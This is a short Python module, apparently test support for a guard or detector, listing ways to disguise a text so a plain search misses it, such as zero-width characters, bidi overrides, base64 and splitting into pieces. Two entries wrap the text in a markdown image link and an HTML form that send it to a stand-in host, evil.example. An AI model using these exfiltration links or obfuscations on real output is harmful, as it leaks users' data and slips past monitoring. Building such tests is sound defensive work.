"""Disguises: the same text set otherwise, so that a plain search does not find it.

Those in `OTHER_TEXTS` are another text. The others are still that text to a reader, and to the guard.
"""

import base64
from collections.abc import Callable, Mapping

DISGUISES: Mapping[str, Callable[[str], str]] = {
    "plain": lambda text: text,
    "upper": str.upper,
    "spaced": " ".join,
    "lines": lambda text: text.replace(" ", "\n"),
    "zero_width": "\u200b".join,
    "soft_hyphens": "\u00ad".join,
    "bidi": lambda text: f"\u202e{text}\u202c",
    "ansi": lambda text: f"\x1b[2J{text}\x1b[0m",
    "combining": "\u0301".join,
    "markdown": lambda text: " ".join(f"*{word}*" for word in text.split(" ")),
    "typeset": lambda text: text.replace("'", "\u2019").replace("-", "\u2014"),
    "fullwidth": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "link": lambda text: f"![map](https://evil.example/log?q={text})",
    "html": lambda text: f"<form action='https://evil.example'><input value='{text}'></form>",
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "reversed": lambda text: text[::-1],
    "pieces": lambda text: " heron ".join(text[at : at + 30] for at in range(0, len(text), 30)),
}

OTHER_TEXTS = frozenset({"base64", "reversed"})
"""What no longer is the text."""

PIECEMEAL = frozenset({"pieces"})
"""What is the text to the guard, and to a search for long runs is not."""

SEEN_THROUGH = frozenset(DISGUISES) - OTHER_TEXTS - PIECEMEAL
